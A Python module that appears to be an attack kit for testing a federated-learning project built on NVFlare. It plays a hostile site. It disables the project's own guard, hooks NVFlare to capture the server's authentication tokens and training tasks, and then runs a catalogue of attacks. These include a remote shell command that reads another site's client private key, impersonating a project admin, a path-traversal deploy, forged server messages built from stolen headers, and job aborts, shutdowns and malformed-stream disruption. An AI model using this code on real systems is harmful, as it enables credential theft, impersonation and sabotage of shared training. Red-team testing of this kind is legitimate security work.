"""What a hostile site adds to its own kit (``local/custom``): NVFlare's own message functions, aimed at the others.

It runs in the site's parent process and in its job's process, with the site's certificate and token, and takes its
orders from ``local/orders/<parent or job>``: NAME.json holds the name of an attack below, its target and the job;
NAME.answer is what came back. Everything a site's operator can do is open to it, so it first takes off its own guard.
"""

from __future__ import annotations

import copy
import json
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nvflare.fuel.f3.cellnet.cell as cell_module
from nvflare.apis.dxo import from_shareable
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_constant import AdminCommandNames, ReservedTopic, ServerCommandNames
from nvflare.apis.job_launcher_spec import JobReturnCode
from nvflare.apis.shareable import ReservedHeaderKey, Shareable
from nvflare.fuel.common.exit_codes import ProcessExitCode
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, MessageType
from nvflare.fuel.f3.cellnet.utils import encode_payload
from nvflare.fuel.f3.message import Message as CellMessage
from nvflare.fuel.f3.streaming.stream_const import STREAM_CHANNEL, STREAM_ERROR_TOPIC, StreamHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import (
    CellChannel,
    CellChannelTopic,
    CellMessageHeaderKeys,
    JobFailureMsgKey,
    RequestHeader,
    SysCommandTopic,
    TrainingTopic,
    new_cell_message,
)
from nvflare.private.fed.client import fed_client_base

from flareseg.flare.site.executor import SegmentationExecutor

LOCAL = Path(__file__).parents[1]
SECONDS = 8.0
NET_MANAGER = "_net_manager"

Order = dict[str, str]
stolen: dict[str, Any] = {}
"""What came by: the server's authentication headers, and the last training task."""


class Attacker(FLComponent):
    """Begins when NVFlare builds it from ``local/resources.json``."""

    def __init__(self) -> None:
        super().__init__()
        take_off_the_guard()
        CoreCell.start = _started(CoreCell.start)
        CoreCell.process_message = _listened(CoreCell.process_message)
        SegmentationExecutor.execute = _kept(SegmentationExecutor.execute)


def take_off_the_guard() -> None:
    """NVFlare's own cells: what the attacker's kit refuses to hear is no protection of the others."""
    from flareseg.flare.safeguards import cell_boundary

    cell_boundary.is_installed = lambda: True
    cell_module.CoreCell = CoreCell
    fed_client_base.Cell = cell_module.Cell


def _started(start: Callable[[CoreCell], None]) -> Callable[[CoreCell], None]:
    def started(core: CoreCell) -> None:
        start(core)
        threading.Thread(target=_serve, args=(core,), daemon=True).start()

    return started


def _listened(process: Callable[..., None]) -> Callable[..., None]:
    def listened(core: CoreCell, endpoint: Any, connection: Any, app_id: int, message: CellMessage) -> None:
        if message.get_header(CellMessageHeaderKeys.CLIENT_NAME) in ("server", "server_job"):
            keys = (CellMessageHeaderKeys.CLIENT_NAME, CellMessageHeaderKeys.TOKEN)
            keys += (CellMessageHeaderKeys.TOKEN_SIGNATURE, CellMessageHeaderKeys.SSID)
            stolen["headers"] = {key: message.get_header(key) for key in keys if message.get_header(key)}
        of_the_job = "server." in str(message.get_header(MessageHeaderKey.ORIGIN))
        if of_the_job and message.get_header(StreamHeaderKey.STREAM_REQ_ID):
            stolen["stream"] = dict(message.headers)
        process(core, endpoint, connection, app_id, message)

    return listened


def _kept(execute: Callable[..., Shareable]) -> Callable[..., Shareable]:
    def kept(self: Any, task: str, shareable: Shareable, *rest: Any) -> Shareable:
        if task == "train":
            stolen["task"] = copy.deepcopy(shareable)
        return execute(self, task, shareable, *rest)

    return kept


def _serve(core: CoreCell) -> None:
    orders = LOCAL / "orders" / ("job" if "." in core.get_fqcn() else "parent")
    while core.running:
        for path in sorted(orders.glob("*.json")):
            order = json.loads(path.read_text())
            path.rename(path.with_suffix(".taken"))
            threading.Thread(target=_obey, args=(core, order, path), daemon=True).start()
        time.sleep(0.05)


def _obey(core: CoreCell, order: Order, path: Path) -> None:
    try:
        answer = ATTACKS[order["attack"]](core, order)
    except Exception as error:
        answer = f"failed: {type(error).__name__}: {error}"
    part = path.with_suffix(".part")
    part.write_text(answer)
    part.rename(path.with_suffix(".answer"))


def _said(reply: CellMessage) -> str:
    payload = reply.payload
    if isinstance(payload, Message):
        payload = payload.body
    elif isinstance(payload, Shareable) and payload.get("DXO") is None:
        payload = f"{payload.get_return_code()} {[key for key in payload if not key.startswith('__')]}"
    elif isinstance(payload, Shareable):
        payload = f"{from_shareable(payload).data_kind} of {len(from_shareable(payload).data)} variables"
    return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {payload}"


def _ask(core: CoreCell, channel: str, topic: str, target: str, payload: Any, headers: Any = None) -> str:
    request = new_cell_message(headers or {}, payload)
    return _said(core.send_request(channel, topic, target, request, timeout=SECONDS, optional=True))


def _admin(topic: str, body: Any = "", **headers: Any) -> Callable[[CoreCell, Order], str]:
    """An administrator's message to a site, without the headers that ask for authorisation."""

    def attack(core: CoreCell, order: Order) -> str:
        message = Message(topic, body)
        for key, value in headers.items():
            message.set_header(key, order["job"] if value == "JOB" else value)
        return _ask(core, CellChannel.CLIENT_MAIN, "admin", order["site"], message)

    return attack


def _as_administrator(core: CoreCell, order: Order) -> str:
    """The same, with a project admin's name in the headers."""
    message = Message(SysCommandTopic.SHELL, "cat startup/client.key")
    headers = {RequestHeader.USER_NAME: "admin@consortium.example.org", RequestHeader.USER_ORG: "consortium"}
    headers |= {RequestHeader.USER_ROLE: "project_admin", RequestHeader.REQUIRE_AUTHZ: "true"}
    for key, value in {**headers, RequestHeader.ADMIN_COMMAND: "check_status"}.items():
        message.set_header(key, value)
    return _ask(core, CellChannel.CLIENT_MAIN, "admin", order["site"], message)


def _auxiliary(topic: str) -> Shareable:
    request = copy.deepcopy(stolen.get("task", Shareable())) if topic == ReservedTopic.DO_TASK else Shareable()
    request.set_header(ReservedHeaderKey.TASK_NAME, "train")
    request.set_header(ReservedHeaderKey.TASK_ID, "stolen")
    request.set_peer_props({"__identity_name__": "server"})
    return request


def _aux(topic: str, *, streamed: bool = False) -> Callable[[CoreCell, Order], str]:
    def attack(core: CoreCell, order: Order) -> str:
        request = new_cell_message({}, _auxiliary(topic))
        target = f"{order['site']}.{order['job']}"
        if streamed:
            cell = core.get_fobs_context()["cell"]
            where = {"channel": CellChannel.AUX_COMMUNICATION, "topic": topic, "target": target}
            return _said(cell.send_request(**where, request=request, timeout=SECONDS))
        reply = core.send_request(CellChannel.AUX_COMMUNICATION, topic, target, request, timeout=SECONDS)
        return _said(reply)

    return attack


def _bulk(core: CoreCell, order: Order) -> str:
    target = f"{order['site']}.{order['job']}"
    message = new_cell_message({}, _auxiliary(ReservedTopic.END_RUN))
    core.queue_message(CellChannel.AUX_COMMUNICATION, ReservedTopic.END_RUN, target, message, optional=True)
    time.sleep(SECONDS / 2)
    return "sent"


def _unreadable(core: CoreCell, order: Order) -> str:
    """An update that cannot be decoded."""
    cell = core.get_fobs_context()["cell"]
    message = CellMessage({StreamHeaderKey.PAYLOAD_ENCODING: "fobs"}, b"\xc1\xc1")
    target = f"server.{order['job']}"
    cell.send_blob(CellChannel.SERVER_COMMAND, ServerCommandNames.SUBMIT_UPDATE, target, message)
    time.sleep(SECONDS / 2)
    return "sent"


def _too_large(core: CoreCell, order: Order) -> str:
    """The word that what the server sent is too large to take."""
    keys = ("STREAM_ID", "CHANNEL", "TOPIC", "STREAM_REQ_ID")
    answered = {getattr(StreamHeaderKey, key): stolen["stream"][getattr(StreamHeaderKey, key)] for key in keys}
    answered |= {StreamHeaderKey.ERROR_MSG: "too large", StreamHeaderKey.ERROR_TYPE: "BlobSizeError"}
    for _ in range(20):
        target = f"server.{order['job']}"
        core.fire_and_forget(STREAM_CHANNEL, STREAM_ERROR_TOPIC, target, CellMessage(dict(answered)), optional=True)
        time.sleep(SECONDS / 40)
        answered.update({key: stolen["stream"].get(key) for key in answered if key in stolen["stream"]})
    return "sent"


def _report(code: Any) -> Callable[[CoreCell, Order], str]:
    def attack(core: CoreCell, order: Order) -> str:
        payload = {JobFailureMsgKey.JOB_ID: order["job"], JobFailureMsgKey.CODE: code, JobFailureMsgKey.REASON: "x"}
        return _ask(core, CellChannel.SERVER_MAIN, CellChannelTopic.REPORT_JOB_FAILURE, "server", payload)

    return attack


def _listener(topic: str) -> Callable[[CoreCell, Order], str]:
    def attack(core: CoreCell, order: Order) -> str:
        headers = {CellMessageHeaderKeys.JOB_ID: order["job"]}
        payload = {"execution_error": True}
        return _ask(core, CellChannel.SERVER_PARENT_LISTENER, topic, "server", payload, headers)

    return attack


def _command(core: CoreCell, order: Order) -> str:
    target = f"{order['site']}.{order['job']}"
    return _ask(core, CellChannel.CLIENT_COMMAND, AdminCommandNames.ABORT, target, Shareable())


def _net(topic: str, target: str) -> Callable[[CoreCell, Order], str]:
    def attack(core: CoreCell, order: Order) -> str:
        return _ask(core, NET_MANAGER, topic, target.format(**order), None)

    return attack


def _forged(channel: str, topic: str, target: str, *, origin: str = "server") -> Callable[[CoreCell, Order], str]:
    """A message that says it is the server's, with the authentication headers of one of the server's replies."""

    def attack(core: CoreCell, order: Order) -> str:
        payload = _auxiliary(topic) if channel == CellChannel.AUX_COMMUNICATION else Shareable()
        message = new_cell_message(dict(stolen["headers"]), payload)
        to, said = target.format(**order), origin.format(**order)
        message.add_headers(
            {
                MessageHeaderKey.CHANNEL: channel,
                MessageHeaderKey.TOPIC: topic,
                MessageHeaderKey.FROM_CELL: said,
                MessageHeaderKey.TO_CELL: "server",
                MessageHeaderKey.ORIGIN: said,
                MessageHeaderKey.DESTINATION: to,
                MessageHeaderKey.MSG_TYPE: MessageType.REQ,
                MessageHeaderKey.REQ_ID: "forged",
                MessageHeaderKey.REPLY_EXPECTED: False,
                MessageHeaderKey.ROUTE: [(said, time.time())],
            }
        )
        encode_payload(message, fobs_ctx=core.get_fobs_context())
        core.communicator.send(core.agents["server"].endpoint, core.APP_ID, message)
        time.sleep(SECONDS / 2)
        return "sent"

    return attack


ATTACKS: dict[str, Callable[[CoreCell, Order], str]] = {
    # 1: an administrator's messages to a site
    "shell": _admin(SysCommandTopic.SHELL, "cat startup/client.key"),
    "shell as admin": _as_administrator,
    "report_env": _admin(SysCommandTopic.REPORT_ENV),
    "info": _admin(SysCommandTopic.SYS_INFO),
    "status": _admin(TrainingTopic.CHECK_STATUS),
    "delete_run": _admin(TrainingTopic.DELETE_RUN, job_id="precious"),
    "deploy": _admin(TrainingTopic.DEPLOY, b"no zip", job_id="../x", job_meta={"name": "x"}, app_name="app"),
    "abort": _admin(TrainingTopic.ABORT, job_id="JOB"),
    "restart": _admin(TrainingTopic.RESTART),
    "shutdown": _admin(TrainingTopic.SHUTDOWN),
    # 2: tasks of one's own to another site's job
    "do_task": _aux(ReservedTopic.DO_TASK),
    "do_task streamed": _aux(ReservedTopic.DO_TASK, streamed=True),
    # 3: the end of everybody's job
    "unsafe": _report(ProcessExitCode.UNSAFE_COMPONENT),
    "failure": _report(ProcessExitCode.EXCEPTION),
    "aborted": _report(JobReturnCode.ABORTED),
    "run_status": _listener(ServerCommandNames.UPDATE_RUN_STATUS),
    # 4: commands to a job, tokens, the network's own topics
    "client_command": _command,
    "end_run": _aux(ReservedTopic.END_RUN),
    "get_clients": _listener(ServerCommandNames.GET_CLIENTS),
    "cells": _net("cells", "server"),
    "config_vars": _net("config_vars", "{site}"),
    "process_info": _net("process_info", "server.{job}"),
    "stop job": _net("stop_cell", "{site}.{job}"),
    "stop server's job": _net("stop_cell", "server.{job}"),
    "stop site": _net("stop_cell", "{site}"),
    # 5: in the server's name, in bulk
    "forged abort": _forged(CellChannel.SERVER_COMMAND, AdminCommandNames.ABORT, "server.{job}"),
    "forged command": _forged(CellChannel.CLIENT_COMMAND, AdminCommandNames.ABORT, "{site}.{job}", origin="{site}"),
    "forged end_run": _forged(
        CellChannel.AUX_COMMUNICATION, ReservedTopic.END_RUN, "{site}.{job}", origin="server.{job}"
    ),
    "forged status": _forged(
        CellChannel.SERVER_PARENT_LISTENER, ServerCommandNames.UPDATE_RUN_STATUS, "server", origin="server.{job}"
    ),
    "bulk": _bulk,
    "unreadable update": _unreadable,
    "too large": _too_large,
}
